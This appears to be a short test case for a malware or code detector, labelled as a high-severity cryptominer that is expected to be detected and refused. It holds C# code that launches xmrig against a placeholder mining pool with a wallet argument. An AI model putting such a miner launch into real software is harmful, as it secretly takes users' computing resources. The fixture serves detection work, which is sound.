// expect: detected
// threat: 35 miner
// at: source
// family: miner
// severity: high
// decision: refused

var pool = "stratum+tcp://" + "pool.example.invalid:3333";
Process.Start("./xmrig", new[] { "-o", pool, "-u", "wallet", "--donate-level", "1" });
